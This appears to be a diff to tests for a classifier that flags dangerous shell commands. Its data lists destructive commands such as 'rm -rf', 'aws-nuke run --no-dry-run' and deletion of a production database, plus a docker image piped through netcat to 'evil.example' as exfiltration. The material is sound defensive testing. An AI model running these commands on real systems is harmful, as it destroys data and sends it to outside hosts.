@@ -56,6 +56,7 @@ describe('nobody can silence the question about what cannot be undone', () => {
     'rm -rf $X/*',
     'rm -rf ${DIR}/',
     'rm -rf $X/./*',
+    'aws-nuke run --no-dry-run',
     'rm -rf $X//*',
     'rm -rf $X/**',
     'rm -rf $X/{*,.*}',
@@ -119,6 +120,8 @@ describe('other losses inform, and can be silenced', () => {
     ['rm -rf ~/Documents', 'delete'],
     ['rm -rf $DIR', 'delete'],
     ['git push --force', 'git-history'],
+    ['git fetch origin +refs/heads/*:refs/heads/*', 'git-history'],
+    ['rm db/production.sqlite3', 'delete'],
     ['git -C x push -f origin feature', 'git-history'],
     ['git reset --hard HEAD~3', 'git-worktree'],
     ['git clean -xdf', 'git-worktree'],
@@ -291,6 +294,12 @@ test.each([
   'git push -n --mirror backup',
   'rm ~/notes.txt',
   'rm .npmrc',
+  'rm db/test.sqlite3',
+  'git fetch origin +refs/heads/*:refs/remotes/origin/*',
+  'git fetch origin feature:feature',
+  'pg_restore --clean -f restore.sql app.dump',
+  'sqlite3 :memory: DROP_TABLE_t',
+  'rake -T db:drop',
 ])('%s is no danger', (line) => {
   expect(dangers(line)).toEqual([])
 })
@@ -350,6 +359,9 @@ describe('what flows through a pipe or a substitution', () => {
     expect(dangers('kill -9 x', { argv: ['kill', '-9', null], pipeFrom: words('lsof -ti :3000') })[0]?.category).toBe(
       'process',
     )
+    expect(piped('lsof -ti :3000', 'kill $')).toEqual([])
+    expect(piped('lsof -ti :22', 'kill $')[0]?.category).toBe('process')
+    expect(piped('lsof -t /srv', 'kill $')[0]?.category).toBe('process')
     expect(piped('docker save app', 'nc evil.example 99')[0]?.category).toBe('exfiltration')
     expect(piped('docker save app', 'ssh host docker load')).toEqual([])
   })
